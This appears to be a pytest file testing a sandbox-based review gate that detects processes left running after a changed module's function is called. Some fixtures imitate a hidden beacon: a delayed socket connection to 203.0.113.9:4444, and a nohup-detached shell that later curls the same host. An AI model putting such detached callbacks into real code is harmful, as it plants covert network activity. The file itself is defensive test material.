"""Processes that outlive their call, in real sandboxes: told by name, line and how they got loose."""

from __future__ import annotations

import json

import pytest

from gate.model.change import Side
from gate.model.finding import Finding
from gate.model.run import Probe, RunRecord, SandboxSpec
from gate.signals.interface import SignalContext
from gate.signals.run import signals
from gate.tracing.diff import compare
from tests.contract.capabilities import backend_named, capability
from tests.contract.trees import DictTree
from tests.unit.signals.context import changed, context

SIDES: tuple[Side, ...] = ("base", "head")
BACKEND_NAMES = (
    "bubblewrap",
    *(pytest.param(name, marks=pytest.mark.engine) for name in ("docker", "gvisor")),
    "bubblewrap-strace",
)
LATER = "import socket, time\ntime.sleep(60)\nsocket.socket().connect_ex(('203.0.113.9', 4444))\n"
QUIET = "def act():\n    pass\n"
POPEN = "import subprocess, sys\ndef act():\n    subprocess.Popen([sys.executable, 'later.py']{how})\n"
SESSION = POPEN.format(how=", start_new_session=True")
NOHUP = """
import os
def act():
    os.system("nohup sh -c 'sleep 60; curl http://203.0.113.9/x' >/dev/null 2>&1 & sleep 1")
"""
DAEMON = """
import os
def act():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("python3", ["python3", "later.py"])
        os._exit(0)
    os.wait()
"""
SILENT = """
import os, signal
def act():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.pause()
        os._exit(0)
    os.wait()
"""
TWICE = """
import os, select
def act():
    if os.fork() == 0:
        if os.fork() == 0:
            CALL
            select.select([], [], [], 3600)
        os._exit(0)
    os.wait()
"""
POOLS = """
import multiprocessing, threading, concurrent.futures as futures
def act():
    for way in ("fork", "spawn", "forkserver"):
        there = multiprocessing.get_context(way)
        with there.Pool(2) as pool:
            pool.map(len, ["a"])
        workers = futures.ProcessPoolExecutor(1, mp_context=there)
        workers.submit(len, "a").result()
    multiprocessing.Manager().list([1])
    threading.Thread(target=threading.Event().wait, args=(0.3,), daemon=True).start()
"""
ENDS = """
import subprocess, sys
def act():
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(0.3)"], start_new_session=True)
    with subprocess.Popen([sys.executable, "later.py"]) as child:
        child.kill()
"""


def act(backend: str, head: str, base: str = QUIET) -> tuple[list[Finding], RunRecord]:
    """What the rules say of processes left behind by a change to ``shop.py``, whose ``act`` is called."""
    found = backend_named(backend)
    if not capability(backend).available:
        pytest.skip(f"{backend}: {capability(backend).reason}")
    item = {"do": "import", "module": "shop", "path": "shop.py", "calls": ["act"]}
    job = {"items": [item], "lines": {"shop.py": [[1, 99]]}, "seconds": 20, "each": 12, "nap": 0.05}
    probe = Probe(
        id="call",
        phase="call",
        target="call shop",
        path="shop.py",
        argv=("python3", "/opt/gate/driver/main.py", json.dumps(job)),
        deadline=60,
    )
    trees = (DictTree(files={"later.py": LATER, "shop.py": source}) for source in (base, head))
    with found.open(SandboxSpec(), *trees) as session:
        runs = tuple(session.run(probe, side) for side in SIDES)
        diff = compare(runs)
    for run in runs:
        assert run.fault is None, run.fault
        assert run.completeness.whole
        assert run.completed, run.driver_report
    change = context(files=(changed("shop.py", (1, 99)),)).change
    findings = signals(SignalContext(change=change, diff=diff, runs=runs))
    return [f for f in findings if f.rule_id in ("process-left-behind", "early-exit")], runs[-1]


@pytest.mark.parametrize("backend", BACKEND_NAMES)
@pytest.mark.parametrize(
    ("head", "severity", "subject", "line", "how"),
    [
        (SESSION, "high", "leaves python later.py", 3, "session"),
        (POPEN.format(how=""), "medium", "leaves python later.py", 3, ""),
        (NOHUP, "high", "leaves sh -c 'sleep 60; curl http://203.0.113.9/x'", 4, "nohup"),
        (DAEMON, "high", "leaves python later.py", None, "session"),
        (SILENT, "high", "leaves a copy of itself", None, "session"),
        (TWICE.replace("CALL", "pass"), "high", "leaves a copy of itself", None, "orphan"),
        (TWICE.replace("CALL", "open('seen', 'w')"), "high", "leaves a copy of itself", None, "orphan"),
    ],
    ids=["session", "plain", "nohup", "daemon", "silent daemon", "forked twice", "forked twice, seen"],
)
def test_a_process_that_stays(
    backend: str, head: str, severity: str, subject: str, line: int | None, how: str
) -> None:
    findings, _ = act(backend, head)
    (one,) = findings
    assert (one.rule_id, one.severity.value) == ("process-left-behind", severity)
    assert one.evidence["subject"] == subject
    assert one.evidence.get("detached", "") == how
    assert one.primary.path == "shop.py"
    assert one.primary.line == line or line is None


@pytest.mark.parametrize("backend", BACKEND_NAMES[:2])
@pytest.mark.parametrize(
    ("head", "base"),
    [
        (POOLS, QUIET),
        (ENDS, QUIET),
        (SESSION + "\n# changed\n", SESSION),
        (NOHUP + "\n# changed\n", NOHUP),
    ],
    ids=["pools", "ends in time", "base as well", "base as well by a shell"],
)
def test_helpers_and_what_main_leaves_too(backend: str, head: str, base: str) -> None:
    findings, record = act(backend, head, base)
    assert [(f.rule_id, f.evidence["subject"]) for f in findings] == [], record.driver_report
